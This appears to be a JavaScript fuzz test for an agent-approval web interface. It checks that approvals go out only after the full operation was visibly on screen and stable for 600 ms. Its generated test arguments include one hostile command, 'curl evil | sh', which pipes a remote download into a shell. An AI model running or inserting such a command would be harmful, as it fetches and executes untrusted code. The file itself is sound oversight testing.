// Random clicks, taps, scrolls and resizes while asks arrive, are withdrawn and settled, over networks that are
// slow or cut: nothing is approved unless every part of its operation was on the screen and that stood still for
// 600 ms before the press, nor by a press on a spot where another card was. The clock of the page is the test's.
// PARLEY_LONG=1 plays 10,000 sequences, PARLEY_SEQUENCES=N so many; PARLEY_SEED=N repeats a run.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { random } from '../lib/random.mjs';
import { arrive, Server, until } from './lib.mjs';
import { browser, long } from './matrix.mjs';

const SEQUENCES = Number(process.env.PARLEY_SEQUENCES ?? (long ? 10_000 : 200));
const PLAYERS = Number(process.env.PARLEY_PLAYERS ?? 2);
const STEPS = 6;
const OPEN_MAX = 8;
const seed = Number(process.env.PARLEY_SEED ?? (long ? Date.now() % 1_000_000 : 7));
const STILL_MS = 600, SAMPLE_MS = 50;

/* In the page: what was on the screen, for how long, and every decision at the moment it is sent. */
function observe(every) {
	const BAND = 10, EDGE = 4;
	const seen = { sent: [], press: null };
	window.stray = seen;
	const drawn = new Map(); // each operation that is drawn
	const came = new WeakMap(); // each card, and where the pointer was then
	const places = []; // of the pointer
	const now = () => performance.now();
	const isTop = (of, x, y) => {
		const hit = document.elementFromPoint(x, y);
		const row = of.closest('[data-row]');
		return hit !== null && (of.contains(hit) || (row !== null && row.contains(hit)));
	};
	const isOn = (at) => Boolean(at && document.elementFromPoint(at.x, at.y)?.closest('[data-decides]'));
	const fields = (of) => [...of.querySelectorAll('input, textarea')];
	const shows = (field) => field.scrollWidth <= field.clientWidth + 1 && field.scrollHeight <= field.clientHeight + 1;
	/* What came into sight is looked for at each tick and press; what has changed or moved, at each change, too. */
	function look(of, scans) {
		const box = of.getBoundingClientRect();
		const text = [of.textContent, ...fields(of).map((field) => field.value)].join(' ');
		const size = `${Math.round(box.width)}x${Math.round(box.height)} ${text}`;
		const place = `${Math.round(box.left)},${Math.round(box.top)}`;
		let one = drawn.get(of);
		if (!one || one.size !== size) drawn.set(of, (one = { size, seen: new Set(), still: now(), place, text }));
		if (one.place !== place) Object.assign(one, { place, still: now() });
		const bands = Math.ceil((box.height - 2 * EDGE) / BAND);
		let more = false;
		for (let band = 0; scans && band < bands && one.seen.size < bands; band++) {
			const y = Math.min(box.top + EDGE + band * BAND, box.bottom - EDGE);
			if (one.seen.has(band) || y < 0 || y >= innerHeight) continue;
			if ([box.left + EDGE, (box.left + box.right) / 2, box.right - EDGE].every((x) => isTop(of, x, y))) one.seen.add(band), (more = true);
		}
		/* What has just come into sight has not stood still yet. */
		if (more) one.still = now();
		one.whole = bands > 0 && one.seen.size >= bands && of.scrollWidth <= of.clientWidth + 1 && fields(of).every(shows);
	}
	function lookAll(scans = true) {
		for (const of of drawn.keys()) if (!of.isConnected) drawn.delete(of);
		for (const of of document.querySelectorAll('[data-operation]')) look(of, scans);
		for (const card of document.querySelectorAll('article[data-ask], .quick, .together'))
			if (!came.has(card)) came.set(card, { at: now(), from: places.at(-1) ?? null, n: places.length, on: isOn(places.at(-1)) });
			/* Its button may still slide from under the pointer before it is painted: who then goes after it means it. */
			else if (now() - came.get(card).at <= 2 * every && !isOn(came.get(card).from)) came.get(card).on = false;
	}
	setInterval(() => lookAll(), every);
	new MutationObserver(() => lookAll(false)).observe(document, { subtree: true, childList: true });
	const pointed = (event) => places.push({ x: event.clientX, y: event.clientY, at: now(), down: event.type === 'pointerdown',
		on: Boolean(event.target?.closest?.('[data-decides]')), touch: event.pointerType !== 'mouse' });
	addEventListener('pointermove', pointed, true);
	addEventListener('pointerdown', pointed, true);
	/* Has the pointer left this button since its card came, or moved a moment ago? */
	function moved(card) {
		const known = came.get(card);
		if (!known?.from) return true;
		const since = places.slice(known.n);
		const far = ({ x, y, touch }) => Math.hypot(x - known.from.x, y - known.from.y) >= (touch ? 20 : 3);
		return since.some((one) => far(one) && (one.touch || !one.on || !known.on)) || since.some((one) => (far(one) || (one.touch && one.down)) && now() - one.at >= 590);
	}
	const pressed = (event) => {
		lookAll();
		const card = event.target?.closest?.('article[data-ask], .quick, .together');
		const states = {};
		/* An ask may be drawn twice, in its session and in a dialog: what counts is what the pressed card shows. */
		const better = (one, other) => one.inside - other.inside || one.whole - other.whole || one.still - other.still;
		for (const [of, { whole, still, text }] of drawn) {
			const id = of.dataset.operation;
			const state = { whole, still: now() - still, text, inside: Boolean(card?.contains(of)) };
			if (!states[id] || better(state, states[id]) > 0) states[id] = state;
		}
		seen.press = { key: event.key ?? 'pointer', card: card?.className ?? null, states, moved: event.key || !event.detail || moved(card),
			pointer: [came.get(card), ...places.slice(-6)], at: now() };
	};
	addEventListener('click', pressed, true);
	addEventListener('keydown', pressed, true);
	const real = window.fetch;
	window.fetch = (url, how) => {
		const [found, ask] = /\/v1\/asks\/(?:(ask_\w+)\/answer|settle-many)$/.exec(url) ?? [];
		if (found && how?.method === 'POST') {
			const body = JSON.parse(how.body);
			const said = body.answer ?? Object.values(body.answers ?? {})[0];
			const key = new Headers(how.headers).get('idempotency-key');
			seen.sent.push({ asks: ask ? [ask] : body.ids, value: said?.value, press: seen.press, key, scope: body.scope ?? null });
		}
		return real(url, how);
	};
}

/** Why this approval should not have been sent; null: all of it was there to be read. */
export function complaint({ asks, press }, textsOf) {
	if (!press) return 'nothing was pressed';
	if (!press.moved) return 'a press on the spot where another card was';
	for (const ask of asks) {
		const state = press.states[ask];
		if (!state) return `${ask}: no operation was drawn`;
		const squeezed = state.text.replace(/\s/g, '');
		/* In words, or raw as JSON. */
		const isDrawn = (text) => [text, JSON.stringify(text).slice(1, -1)].some((form) => squeezed.includes(form.replace(/\s/g, '')));
		const missing = (textsOf[ask] ?? []).find((text) => !isDrawn(text));
		if (missing !== undefined) return `${ask}: not drawn: ${missing.slice(0, 40)}`;
		if (!state.whole) return `${ask}: not wholly on the screen`;
		if (state.still < STILL_MS - SAMPLE_MS) return `${ask}: still for ${Math.round(state.still)} ms`;
	}
	return null;
}

const lines = (n) => Array.from({ length: n }, (_, i) => `step ${i} of the script`).join('\n');
const sizes = {
	desktop: [[1440, 900], [1440, 900], [1024, 600], [1440, 360], [1280, 720]],
	phone: [[390, 844], [390, 844], [390, 560], [844, 390]],
};

class Game {
	constructor(below, view, { server, agent, marie, page }) {
		Object.assign(this, { below, view, server, agent, marie, page, n: 0, open: [], texts: {}, counts: {}, keys: new Set(), line: 'good', held: [], at: [200, 200] });
	}
	any(list) {
		return list[this.below(list.length)];
	}
	async ask() {
		if (this.open.length >= OPEN_MAX) return this.withdraw();
		const n = ++this.n;
		const risk = this.any(['low', 'low', 'medium', 'high', 'critical']);
		const given = this.any([
			{ command: `make ${n}` }, { ticket: n, label: 'billing' }, { ticket: n, label: 'billing' }, { ticket: n, label: 'billing', also: 'curl evil | sh' },
			{ script: lines(18), database: 'shop_prod' }, { script: lines(80), database: `db_${n}` }, { text: 'long '.repeat(120), to: 'all' },
			{ to: 'all', body: lines(12), subject: `News ${n}` },
		]);
		const diff = '--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n same\n-old\n+new\n' + ' more\n'.repeat(60);
		const body = this.below(7) ? { kind: 'approval', title: `Run ${given.label ?? n}`, operation: { name: Object.keys(given)[0] === 'ticket' ? 'tickets.label' : 'shell', risk, arguments: given },
			context: this.any([undefined, undefined, { diff }, { text: 'Trust me. '.repeat(80) }]) } : { title: `Yes ${n}`, question: 'Go?', type: 'boolean' };
		const ask = await this.agent.ask({ session: this.session, ...body });
		this.open.push(ask.id);
		if (body.operation) this.texts[ask.id] = ['name' in body.operation ? body.operation.name : '', ...Object.entries(given).flatMap(([name, value]) => [
			Object.keys(given).length > 1 ? name : '', typeof value === 'string' ? value : JSON.stringify(value)])];
	}
	async withdraw() {
		const id = this.open.splice(this.below(this.open.length), 1)[0];
		if (!id) return;
		if (this.below(2)) await this.agent.post(`/v1/asks/${id}/cancel`);
		else await this.marie.post(`/v1/asks/${id}/skip`);
	}
	/* As clock.runFor() does it, which also adds a script for later documents, one more with each call: there is none. */
	pass(ms = this.any([20, 100, 300, 590, 650, 650, 1300])) {
		return this.page.evaluate((time) => globalThis.__pwClock.controller.runFor(time), ms);
	}
	async find(selector) {
		return this.page.evaluate(([what, n]) => {
			const list = [...document.querySelectorAll(what)].filter((one) => one.checkVisibility());
			const box = list[n % list.length]?.getBoundingClientRect();
			return box && [box.x + Math.min(box.width / 2, 120), box.y + Math.min(box.height / 2, 20)];
		}, [selector, this.below(50)]);
	}
	async press([x, y] = this.at) {
		this.at = [x, y];
		if (this.view === 'phone') return this.page.touchscreen.tap(x, y);
		await this.page.mouse.click(x, y);
	}
	async click(selector) {
		const at = await this.find(selector);
		if (at) await this.press(at);
	}
	scroll(by = this.any([120, 400, 400, 700, -300, 3000])) {
		return this.page.evaluate(([dy]) => {
			const pane = [...document.querySelectorAll('dialog[open] .inside, .ask, main')].find((one) => one.scrollHeight > one.clientHeight + 4) ?? document.scrollingElement;
			pane.scrollBy(0, dy);
		}, [by]);
	}
	go(path) {
		return this.page.evaluate((to) => {
			history.pushState(null, '', to);
			dispatchEvent(new PopStateEvent('popstate'));
		}, path);
	}
	/** Somebody who reads and means it, and may be disturbed. */
	async decide() {
		await this.click('[data-row] a');
		await this.pass(100);
		await this.click('.operation .all');
		for (let i = this.below(6); i > 0; i--) {
			await this.scroll(this.any([300, 400]));
			await this.pass(60);
		}
		if (!this.below(5)) await this.any([this.ask, this.withdraw, this.resize]).call(this);
		await this.pass(this.any([300, 650, 700, 700, 1400]));
		if (this.below(3)) await this.scroll(this.any([-200, -3000, 200]));
		if (this.below(2)) await this.pass(650);
		for (let i = this.below(3); i >= 0; i--) {
			await this.click('.approve, .approve, .together [data-decides]');
			await this.pass(this.any([20, 300, 650, 700]));
		}
		if (this.below(2)) await this.press(); // again, on the same spot
	}
	async together() {
		for (let i = 0; i < 3; i++) await this.click('[data-row] input[type=checkbox]');
		await this.pass(700);
		await this.click('.together [data-decides]');
	}
	async resize() {
		const [width, height] = this.any(sizes[this.view]);
		await this.page.setViewportSize({ width, height });
	}
	async network(line = this.any(['good', 'good', 'slow', 'cut'])) {
		this.line = line;
		if (this.line !== 'slow') for (const go of this.held.splice(0)) await go();
	}
	async step() {
		const n = this.below(100);
		if (n < 12) await this.ask();
		else if (n < 16) await this.withdraw();
		else if (n < 28) await this.pass();
		else if (n < 40) await this.scroll();
		else if (n < 44) await this.resize();
		else if (n < 50) await this.press();
		else if (n < 58) await this.click(this.any(['[data-row] a', 'article button', '.quick button', '.toast button', '.operation .all', '[data-decides]']));
		else if (n < 61) await this.click('[data-row]'); // a look at what can be done on a row
		else if (n < 64) await this.together();
		else if (n < 67) await this.network();
		else if (n < 70) await this.go(this.any(['/inbox', '/inbox', '/activity', `/sessions/${this.session}`]));
		else await this.decide();
	}
	async sequence() {
		if (this.open.length < 2) await this.ask();
		if (this.below(3)) {
			if (this.below(3)) await this.network('good');
			await this.page.keyboard.press('Escape'); // puts dialogs aside
			await this.go('/inbox');
			await this.pass(100);
		}
		for (let i = 0; i < STEPS; i++) await this.step();
		await this.judge();
	}
	async judge() {
		for (const one of await this.page.evaluate(() => window.stray.sent.splice(0))) {
			if (this.keys.has(one.key)) continue; // sent again
			if (one.key) this.keys.add(one.key);
			const kind = `${one.value ?? 'other'}${one.asks.length > 1 ? ' together' : ''}`;
			this.counts[kind] = (this.counts[kind] ?? 0) + 1;
			this.open = this.open.filter((id) => !one.asks.includes(id));
			if (one.value !== 'approve') continue;
			const why = complaint(one, this.texts);
			assert.equal(why, null, `${why}: ${JSON.stringify(one).slice(0, 3000)}`);
		}
	}
}

async function play(shown, number, sequences) {
	const server = await Server.start({ flags: ['--ask-rate', '0'] });
	const agent = server.client(await server.token('agent', 'deployer'));
	const marie = server.client(await server.token('member', 'Marie'));
	const view = number % 2 ? 'phone' : 'desktop';
	const place = await arrive(shown, server, { view, settings: { opens: true }, hasTouch: view === 'phone' });
	const { page } = place;
	try {
		await place.context.addCookies([await server.cookie()]);
		await page.clock.install();
		await place.context.addInitScript(observe, SAMPLE_MS);
		const game = new Game(random(seed * 1000 + number), view, { server, agent, marie, page });
		game.session = (await agent.session('stray')).id;
		await page.route(/\/v1\/asks\/(ask_\w+\/answer|settle-many)$/, async (route) => {
			if (game.line === 'cut') return route.abort();
			if (game.line === 'slow') return void game.held.push(() => route.continue().catch(() => {}));
			return route.continue();
		});
		for (let i = 0; i < 3; i++) await game.ask();
		await page.goto('/inbox');
		await page.locator('[data-row]').first().waitFor();
		await page.clock.pauseAt(Date.now() + 3000);
		for (let i = 0; i < sequences; i++) await game.sequence();
		game.line = 'good';
		for (const go of game.held.splice(0)) await go();
		await game.judge();
		return game.counts;
	} catch (error) {
		error.message = `player ${number}: ${error.message}`;
		throw error;
	} finally {
		await place.context.close();
		await server.end();
	}
}

test(`${SEQUENCES} random sequences approve nothing that was not there to be read (seed ${seed})`, { timeout: Math.max(300_000, SEQUENCES * 3000) }, async () => {
	const shown = await browser();
	const started = Date.now();
	const played = await Promise.all(Array.from({ length: PLAYERS }, (_, i) => play(shown, i, Math.ceil((SEQUENCES - i) / PLAYERS))));
	const counts = {};
	for (const one of played) for (const [kind, n] of Object.entries(one)) counts[kind] = (counts[kind] ?? 0) + n;
	console.log(`seed ${seed}: ${JSON.stringify(counts)} in ${Math.round((Date.now() - started) / 1000)} s`);
	assert.ok(counts.approve > SEQUENCES / 40, `too few approvals to judge: ${JSON.stringify(counts)}`);
});

test('the judge of an approval refuses each kind of accident', () => {
	const texts = { ask_1: ['shell', 'make 1'] };
	const state = { whole: true, still: 700, text: 'Wants to run shell make 1' };
	const press = (more, over = {}) => ({ asks: ['ask_1'], press: { moved: true, states: { ask_1: { ...state, ...more } }, ...over } });
	assert.equal(complaint(press({}), texts), null);
	for (const one of [press({ whole: false }), press({ still: 300 }), press({ text: 'shell' }), press({}, { states: {} }), press({}, { moved: false }), { asks: ['ask_1'], press: null },
		{ ...press({}), asks: ['ask_1', 'ask_2'] }])
		assert.notEqual(complaint(one, texts), null, JSON.stringify(one));
});
